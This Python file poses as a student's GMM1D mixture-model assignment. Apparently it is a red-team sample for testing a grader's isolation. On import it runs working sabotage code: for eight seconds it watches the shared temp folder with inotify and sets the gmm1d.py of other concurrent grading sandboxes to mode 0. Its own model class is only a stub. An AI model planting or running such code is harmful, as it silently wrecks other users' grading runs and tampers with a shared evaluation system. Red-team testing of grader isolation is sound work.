"""At import, for a few seconds, watches the folder that holds its private directory
(/tmp, or the TMPDIR of its grader) with inotify for other gradings' private
directories and sets their gmm1d.py to mode 0 as soon as it appears, as a red team did in a
class regrade; prints how many it reached. Its own GMM1D is the untouched stub."""
import ctypes
import os
import struct
import time

import numpy as np

IN_CREATE, IN_CLOSE_WRITE, IN_NONBLOCK = 0x100, 0x8, 0o4000
libc = ctypes.CDLL(None, use_errno=True)
mine = os.path.realpath(os.getcwd())
shared = os.path.dirname(mine)
reached, watched = set(), {}
fd = libc.inotify_init1(IN_NONBLOCK)
if fd < 0:
    print(f"INOTIFY refused: errno {ctypes.get_errno()}")
else:
    top = libc.inotify_add_watch(fd, shared.encode(), IN_CREATE)
    watched[top] = shared
    until = time.monotonic() + 8
    while time.monotonic() < until:
        try:
            events = os.read(fd, 65536)
        except BlockingIOError:
            time.sleep(0.005)
            continue
        while events:
            wd, _, _, size = struct.unpack_from("iIII", events)
            name = events[16 : 16 + size].rstrip(b"\0").decode(errors="replace")
            events = events[16 + size :]
            path = os.path.join(watched.get(wd, shared), name)
            if wd == top and name.startswith("gmm1d-sandbox-") and path != mine:
                watched[libc.inotify_add_watch(fd, path.encode(), IN_CREATE | IN_CLOSE_WRITE)] = path
                for _ in range(50):  # it may be written before the watch
                    try:
                        os.chmod(os.path.join(path, "gmm1d.py"), 0)
                        reached.add(path)
                        break
                    except OSError:
                        time.sleep(0.001)
            elif wd != top and name == "gmm1d.py":
                try:
                    os.chmod(path, 0)
                    reached.add(os.path.dirname(path))
                except OSError:
                    pass
    print(f"INOTIFY reached {len(reached)} gradings")


class GMM1D:
    def __init__(self, num_gaussians):
        self.num_gaussians = num_gaussians
        self.priors = np.ones((num_gaussians, 1)) / num_gaussians
        self.mus = np.zeros((num_gaussians, 1))
        self.variances = np.ones((num_gaussians, 1))

    def estep(self, X):
        return np.full((X.shape[0], self.num_gaussians), 1.0 / self.num_gaussians)

    def mstep(self, X, gammas):
        pass
